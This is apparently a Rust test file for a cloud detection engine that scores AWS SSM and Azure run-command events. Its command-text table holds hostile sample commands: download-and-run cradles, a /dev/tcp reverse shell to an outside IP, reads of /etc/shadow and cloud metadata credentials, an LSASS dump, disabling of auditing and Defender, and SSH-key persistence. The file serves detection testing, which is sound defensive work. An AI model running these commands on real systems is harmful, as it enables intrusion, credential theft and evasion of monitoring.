//! Table tests: one row per signal — an event built from a template with a few fields changed,
//! and the signal ids that must and must not fire. No global setup.

use cadet_core::{normalize, score, Policy, SignalId};
use serde_json::{json, Value};

fn aws(patch: Value) -> Value {
    let mut detail = json!({
        "eventVersion": "1.09", "eventSource": "ssm.amazonaws.com", "eventName": "SendCommand",
        "eventTime": "2026-10-06T10:00:00Z", "eventID": "e-1", "awsRegion": "eu-west-1",
        "recipientAccountId": "111122223333", "sourceIPAddress": "198.51.100.7",
        "userAgent": "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64.amzn.2023",
        "userIdentity": {"type": "AssumedRole", "principalId": "AROA:alice",
            "arn": "arn:aws:sts::111122223333:assumed-role/Ops/alice", "accountId": "111122223333",
            "accessKeyId": "ASIAEXAMPLE",
            "sessionContext": {"sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::111122223333:role/Ops", "userName": "Ops"},
                "attributes": {"mfaAuthenticated": "true"}}},
        "requestParameters": {"documentName": "Company-Diagnostics", "instanceIds": ["i-0123456789abcdef0"]},
        "responseElements": {"command": {"commandId": "c-1", "targetCount": 1}}
    });
    merge(&mut detail, patch);
    json!({"version": "0", "id": "eb-1", "detail-type": "AWS API Call via CloudTrail", "source": "aws.ssm",
           "account": "111122223333", "time": "2026-10-06T10:00:00Z", "region": "eu-west-1", "resources": [], "detail": detail})
}

fn azure(patch: Value) -> Value {
    let mut data = json!({
        "authorization": {"scope": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1",
            "action": "Microsoft.Compute/virtualMachines/runCommand/action",
            "evidence": {"role": "Virtual Machine Contributor", "principalId": "p1", "principalType": "User"}},
        "claims": {"appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "idtyp": "user", "ipaddr": "198.51.100.8",
            "http://schemas.microsoft.com/identity/claims/objectidentifier": "oid-1",
            "http://schemas.microsoft.com/identity/claims/tenantid": "home-tenant",
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "l.chen@contoso.example",
            "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa"},
        "correlationId": "corr-1",
        "httpRequest": {"clientIpAddress": "198.51.100.8", "method": "POST",
            "url": "https://management.azure.com/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1/runCommand?api-version=2023-03-01"},
        "operationName": "Microsoft.Compute/virtualMachines/runCommand/action",
        "resourceUri": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1",
        "status": "Succeeded", "subscriptionId": "s1", "tenantId": "home-tenant"
    });
    merge(&mut data, patch);
    json!({"id": "eg-1", "topic": "/subscriptions/s1", "subject": data["resourceUri"].clone(),
           "eventType": "Microsoft.Resources.ResourceActionSuccess", "eventTime": "2026-10-06T10:00:00Z",
           "data": data, "dataVersion": "2", "metadataVersion": "1"})
}

/// Recursive merge; `null` in the patch deletes the key.
fn merge(base: &mut Value, patch: Value) {
    match (base, patch) {
        (Value::Object(b), Value::Object(p)) => {
            for (k, v) in p {
                if v.is_null() {
                    b.remove(&k);
                } else {
                    merge(b.entry(k).or_insert(Value::Null), v);
                }
            }
        }
        (b, p) => *b = p,
    }
}

fn fired(event: &Value, policy: &Policy) -> Vec<SignalId> {
    let ev = normalize(&event.to_string())
        .unwrap_or_else(|e| panic!("{e}: {event}"))
        .unwrap_or_else(|| panic!("no event: {event}"));
    score(&ev, policy).signals.iter().map(|s| s.id).collect()
}

fn case(name: &str, event: Value, must: &[SignalId], must_not: &[SignalId]) {
    case_with(name, event, &Policy::default(), must, must_not);
}

fn case_with(name: &str, event: Value, policy: &Policy, must: &[SignalId], must_not: &[SignalId]) {
    let got = fired(&event, policy);
    for id in must {
        assert!(
            got.contains(id),
            "{name}: expected {} in {got:?}",
            id.as_str()
        );
    }
    for id in must_not {
        assert!(
            !got.contains(id),
            "{name}: did not expect {} in {got:?}",
            id.as_str()
        );
    }
}

use SignalId as S;

#[test]
fn quiet_baseline_events_fire_nothing_but_the_action() {
    let got = fired(&aws(json!({})), &Policy::default());
    assert_eq!(
        got,
        vec![S::Action, S::CustomDocument],
        "custom document only"
    );
    let got = fired(&azure(json!({})), &Policy::default());
    assert_eq!(got, vec![S::Action, S::ScriptDocument]);
}

#[test]
fn aws_signal_table() {
    let user = json!({"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/bob", "accountId": "111122223333",
        "accessKeyId": "AKIAEXAMPLE", "userName": "bob", "sessionContext": null, "principalId": "AIDA"}});
    case(
        "script document",
        aws(json!({"requestParameters": {"documentName": "AWS-RunShellScript"}})),
        &[S::ScriptDocument],
        &[S::CustomDocument, S::RoutineDocument],
    );
    case(
        "routine document",
        aws(json!({"requestParameters": {"documentName": "AWS-RunPatchBaseline"}})),
        &[S::RoutineDocument],
        &[S::ScriptDocument],
    );
    case(
        "AWS-owned not script",
        aws(json!({"requestParameters": {"documentName": "AWS-ConfigureDocker"}})),
        &[],
        &[S::CustomDocument, S::ScriptDocument],
    );
    case(
        "shared document by ARN is custom",
        aws(
            json!({"requestParameters": {"documentName": "arn:aws:ssm:eu-west-1:999988887777:document/x"}}),
        ),
        &[S::CustomDocument],
        &[],
    );
    case(
        "many ids",
        aws(
            json!({"requestParameters": {"instanceIds": ["i-1","i-2","i-3","i-4","i-5"]}, "responseElements": null}),
        ),
        &[S::ManyTargets],
        &[S::TagTarget],
    );
    case(
        "few ids",
        aws(json!({"requestParameters": {"instanceIds": ["i-1","i-2"]}, "responseElements": null})),
        &[],
        &[S::ManyTargets],
    );
    case(
        "targetCount counts",
        aws(json!({"responseElements": {"command": {"targetCount": 40}}})),
        &[S::ManyTargets],
        &[],
    );
    case(
        "tag target",
        aws(
            json!({"requestParameters": {"instanceIds": null, "targets": [{"key": "tag:Env", "values": ["prod"]}]}}),
        ),
        &[S::TagTarget],
        &[S::WildcardTarget],
    );
    case(
        "wildcard target",
        aws(
            json!({"requestParameters": {"instanceIds": null, "targets": [{"key": "InstanceIds", "values": ["*"]}]}}),
        ),
        &[S::WildcardTarget],
        &[S::TagTarget],
    );
    case(
        "instanceIds star",
        aws(json!({"requestParameters": {"instanceIds": ["*"]}})),
        &[S::WildcardTarget],
        &[],
    );
    case(
        "maxErrors 100%",
        aws(json!({"requestParameters": {"maxErrors": "100%"}})),
        &[S::MaxErrorsUnbounded],
        &[],
    );
    case(
        "maxErrors 0",
        aws(json!({"requestParameters": {"maxErrors": "0"}})),
        &[],
        &[S::MaxErrorsUnbounded],
    );
    case(
        "long-term key",
        aws(user.clone()),
        &[S::LongTermKey],
        &[S::NoMfa],
    );
    case("temporary key", aws(json!({})), &[], &[S::LongTermKey]);
    case(
        "root",
        aws(
            json!({"userIdentity": {"type": "Root", "arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333", "sessionContext": null}}),
        ),
        &[S::RootPrincipal],
        &[],
    );
    case(
        "console user without MFA",
        aws(
            json!({"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/bob", "userName": "bob", "accessKeyId": "ASIAX", "sessionContext": {"sessionIssuer": null, "attributes": {"mfaAuthenticated": "false"}}}}),
        ),
        &[S::NoMfa],
        &[S::LongTermKey],
    );
    case(
        "role without MFA is not a human",
        aws(
            json!({"userIdentity": {"sessionContext": {"attributes": {"mfaAuthenticated": "false"}}}}),
        ),
        &[],
        &[S::NoMfa],
    );
    case(
        "instance role",
        aws(
            json!({"userIdentity": {"arn": "arn:aws:sts::111122223333:assumed-role/Web/i-0a1b2c3d4e5f67890"}}),
        ),
        &[S::InstanceRoleCaller],
        &[],
    );
    case(
        "cross account",
        aws(json!({"userIdentity": {"accountId": "444455556666"}})),
        &[S::CrossAccountCaller],
        &[],
    );
    let trusted = Policy::from_toml("[trusted]\naccounts = [\"444455556666\"]\n")
        .unwrap_or_else(|e| panic!("{e}"));
    case_with(
        "trusted account",
        aws(json!({"userIdentity": {"accountId": "444455556666"}})),
        &trusted,
        &[],
        &[S::CrossAccountCaller],
    );
    case(
        "stratus",
        aws(json!({"userAgent": "stratus-red-team_1234"})),
        &[S::OffensiveTool],
        &[],
    );
    case(
        "pacu session",
        aws(json!({"userAgent": "aws-cli/2.0 Pacu-Session-abcd"})),
        &[S::OffensiveTool],
        &[],
    );
    case(
        "pacu stale cli",
        aws(
            json!({"userAgent": "aws-cli/1.16.190 Python/3.7.0 Linux/4.19.0-kali1-amd64 botocore/1.12.180"}),
        ),
        &[S::StaleSdk, S::AttackDistro],
        &[S::OffensiveTool],
    );
    case(
        "current cli",
        aws(json!({})),
        &[],
        &[S::StaleSdk, S::AttackDistro, S::OffensiveTool],
    );
    case(
        "off hours",
        aws(json!({"eventTime": "2026-10-03T02:13:07Z"})),
        &[S::OffHours],
        &[],
    );
    case("business hours", aws(json!({})), &[], &[S::OffHours]);
    let berlin =
        Policy::from_toml("timezone = \"Europe/Berlin\"\n").unwrap_or_else(|e| panic!("{e}"));
    // 06:30 UTC on a Tuesday is 08:30 in Berlin (CEST): business hours there, not in UTC.
    case_with(
        "time zone",
        aws(json!({"eventTime": "2026-10-06T06:30:00Z"})),
        &berlin,
        &[],
        &[S::OffHours],
    );
    case(
        "time zone utc",
        aws(json!({"eventTime": "2026-10-06T06:30:00Z"})),
        &[S::OffHours],
        &[],
    );
    case(
        "state manager",
        aws(json!({"userIdentity": {"invokedBy": "ssm.amazonaws.com"}})),
        &[S::ServiceInvoked],
        &[],
    );
    case(
        "denied",
        aws(json!({"errorCode": "AccessDenied", "responseElements": null})),
        &[S::AccessDenied],
        &[S::CallFailed],
    );
    case(
        "failed",
        aws(json!({"errorCode": "InvalidInstanceId", "responseElements": null})),
        &[S::CallFailed],
        &[S::AccessDenied],
    );
    case(
        "public share",
        aws(
            json!({"eventName": "ModifyDocumentPermission", "requestParameters": {"name": "Doc", "permissionType": "Share", "accountIdsToAdd": ["All"]}, "responseElements": null}),
        ),
        &[S::DocumentSharedPublic],
        &[S::DocumentSharedExternal],
    );
    case(
        "external share",
        aws(
            json!({"eventName": "ModifyDocumentPermission", "requestParameters": {"name": "Doc", "permissionType": "Share", "accountIdsToAdd": ["999988887777"]}, "responseElements": null}),
        ),
        &[S::DocumentSharedExternal],
        &[],
    );
    case(
        "command document created",
        aws(
            json!({"eventName": "CreateDocument", "requestParameters": {"name": "Doc", "documentType": "Command"}, "responseElements": null}),
        ),
        &[S::CommandDocumentChanged],
        &[],
    );
    case(
        "random document name",
        aws(
            json!({"eventName": "CreateDocument", "requestParameters": {"documentName": null, "name": "qWxZbTrKpLmNvCd", "documentType": "Command"}, "responseElements": null}),
        ),
        &[S::RandomName],
        &[],
    );
    case(
        "ecs exec",
        aws(
            json!({"eventSource": "ecs.amazonaws.com", "eventName": "ExecuteCommand", "requestParameters": {"cluster": "c", "task": "t", "container": "app", "command": "/bin/sh", "interactive": true}}),
        ),
        &[S::ScriptDocument],
        &[],
    );
}

#[test]
fn aws_allow_lists_and_windows() {
    let policy = Policy::from_toml(
        "[[allow.principals]]\nmatch = \"arn:aws:iam::*:role/Ops\"\nwindows = [{ days = [\"tue\"], start = \"09:00\", end = \"11:00\" }]\n\
         [[allow.documents]]\nmatch = \"Company-*\"\n\
         [[allow.sources]]\ncidr = \"198.51.100.0/24\"\nwindows = [{ until = \"2026-10-01T00:00:00Z\" }]\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    case_with(
        "in window",
        aws(json!({})),
        &policy,
        &[S::AllowlistedPrincipal, S::AllowlistedDocument],
        &[S::AllowlistedSource],
    );
    case_with(
        "outside window",
        aws(json!({"eventTime": "2026-10-06T12:00:00Z"})),
        &policy,
        &[S::AllowlistedDocument],
        &[S::AllowlistedPrincipal],
    );
}

#[test]
fn azure_signal_table() {
    let foreign = json!({"claims": {"http://schemas.microsoft.com/identity/claims/identityprovider": "https://sts.windows.net/partner-tenant/"}});
    case(
        "foreign tenant",
        azure(foreign.clone()),
        &[S::ForeignTenantCaller],
        &[S::DelegatedAdmin],
    );
    let trusted = Policy::from_toml("[trusted]\ntenants = [\"partner-tenant\"]\n")
        .unwrap_or_else(|e| panic!("{e}"));
    case_with(
        "trusted tenant",
        azure(foreign),
        &trusted,
        &[],
        &[S::ForeignTenantCaller],
    );
    case(
        "same-tenant idp",
        azure(
            json!({"claims": {"http://schemas.microsoft.com/identity/claims/identityprovider": "https://sts.windows.net/home-tenant/"}}),
        ),
        &[],
        &[S::ForeignTenantCaller],
    );
    case(
        "delegated admin",
        azure(
            json!({"authorization": {"evidence": {"principalType": "ForeignGroup", "role": "Owner"}}}),
        ),
        &[S::DelegatedAdmin],
        &[],
    );
    case(
        "aadinternals",
        azure(
            json!({"claims": {"appid": "d3590ed6-52b3-4102-aeff-aad2292ab01c"}, "httpRequest": {"url": "https://management.azure.com/x/runCommand?api-version=2018-04-01"}}),
        ),
        &[S::OfficeClientRunCommand, S::LegacyApiVersion],
        &[],
    );
    case(
        "no mfa",
        azure(
            json!({"claims": {"http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd"}}),
        ),
        &[S::NoMfa],
        &[],
    );
    case(
        "vm managed identity",
        azure(
            json!({"claims": {"idtyp": "app", "xms_mirid": "/subscriptions/s1/resourcegroups/rg/providers/Microsoft.Compute/virtualMachines/jumpbox", "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": null}}),
        ),
        &[S::InstanceRoleCaller],
        &[S::NoMfa],
    );
    let ext = |name: &str| {
        azure(
            json!({"operationName": "Microsoft.Compute/virtualMachines/extensions/write",
        "resourceUri": format!("/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1/extensions/{name}")}),
        )
    };
    case(
        "custom script extension",
        ext("CustomScriptExtension"),
        &[S::ScriptDocument],
        &[S::RoutineDocument],
    );
    case(
        "monitoring extension",
        ext("AzureMonitorLinuxAgent"),
        &[S::RoutineDocument],
        &[S::ScriptDocument],
    );
    case(
        "vmss extension",
        azure(
            json!({"operationName": "Microsoft.Compute/virtualMachineScaleSets/extensions/write",
        "resourceUri": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachineScaleSets/ss/extensions/CustomScript"}),
        ),
        &[S::WildcardTarget, S::ScriptDocument],
        &[],
    );
    case(
        "runbook random",
        azure(
            json!({"operationName": "Microsoft.Automation/automationAccounts/runbooks/write",
        "resourceUri": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Automation/automationAccounts/aa/runbooks/qWxZbTrKpLmNvCd"}),
        ),
        &[S::CommandDocumentChanged, S::RandomName],
        &[],
    );
    case(
        "webhook",
        azure(
            json!({"operationName": "Microsoft.Automation/automationAccounts/webhooks/write",
        "resourceUri": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Automation/automationAccounts/aa/webhooks/wh"}),
        ),
        &[S::RunbookWebhook],
        &[],
    );
    let mut failed = azure(json!({"status": "Failed"}));
    failed["eventType"] = json!("Microsoft.Resources.ResourceActionFailure");
    case("azure failure", failed, &[S::CallFailed], &[]);
}

#[test]
fn command_text_signal_table() {
    let with_text = |text: &str| {
        let mut ev = normalize(&aws(json!({})).to_string())
            .ok()
            .flatten()
            .unwrap_or_else(|| panic!("event"));
        ev.command_text = Some(text.to_string());
        score(&ev, &Policy::default())
            .signals
            .iter()
            .map(|s| s.id)
            .collect::<Vec<_>>()
    };
    let rows: &[(&str, &[S])] = &[
        (
            "powershell -nop -w hidden -EncodedCommand SQBFAFgA",
            &[S::EncodedCommand, S::ExecutionPolicyBypass],
        ),
        (
            "curl -s http://203.0.113.9/x.sh | bash",
            &[S::DownloadCradle],
        ),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
            &[S::DownloadCradle],
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            &[S::ReverseShell],
        ),
        (
            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
            &[S::ReverseShell],
        ),
        ("cat /etc/shadow", &[S::CredentialAccess]),
        (
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            &[S::CredentialAccess],
        ),
        (
            "rundll32 comsvcs.dll MiniDump 624 C:\\lsass.dmp full",
            &[S::CredentialAccess],
        ),
        ("history -c; systemctl stop auditd", &[S::DefenseEvasion]),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            &[S::DefenseEvasion],
        ),
        (
            "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
            &[S::Persistence],
        ),
        ("useradd -m backup2", &[S::Persistence]),
    ];
    for (text, want) in rows {
        let got = with_text(text);
        for id in *want {
            assert!(
                got.contains(id),
                "{text}: expected {} in {got:?}",
                id.as_str()
            );
        }
    }
    let benign = with_text("yum -y update && systemctl restart nginx");
    for (id, _) in cadet_core::signals::COMMAND_PATTERNS {
        assert!(!benign.contains(id), "benign text fired {}", id.as_str());
    }
    let mut ev = normalize(&aws(json!({})).to_string())
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("event"));
    ev.enrichment_error = Some("AccessDeniedException".into());
    let ids: Vec<S> = score(&ev, &Policy::default())
        .signals
        .iter()
        .map(|s| s.id)
        .collect();
    assert!(ids.contains(&S::EnrichmentUnavailable));
}
